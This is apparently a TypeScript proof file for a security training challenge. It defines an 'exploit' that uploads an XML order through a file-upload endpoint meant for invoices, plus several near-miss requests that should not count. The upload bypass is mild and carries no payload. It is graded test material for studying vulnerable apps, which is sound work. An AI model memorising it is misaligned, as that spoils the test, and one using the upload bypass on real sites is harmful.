import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const ORDER = '<order><line product="1" quantity="12"/></order>'

function send(attacker: Attacker, name: string, content: string, field = 'file') {
  const form = new FormData()
  form.append(field, new Blob([content]), name)
  return attacker.post('/file-upload', form, { headers: { accept: 'application/json' } })
}

export const proof = prove(challenge, {
  exploit: (attacker) => send(attacker, 'order.xml', ORDER),
  nearMisses: {
    'an ordinary invoice': (attacker) => send(attacker, 'invoice.pdf', '%PDF-1.7\n%%EOF'),
    'an order that is called an invoice': (attacker) => send(attacker, 'order.xml.pdf', ORDER),
    'an order in another field': (attacker) => send(attacker, 'order.xml', ORDER, 'order'),
    'an order to the interface that partners use today': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.post('/b2b/v2/orders', { cid: 'partner', orderLines: [] })
    },
    'an order that is far too large': (attacker) => send(attacker, 'order.xml', ORDER + ' '.repeat(200_000)),
  },
})
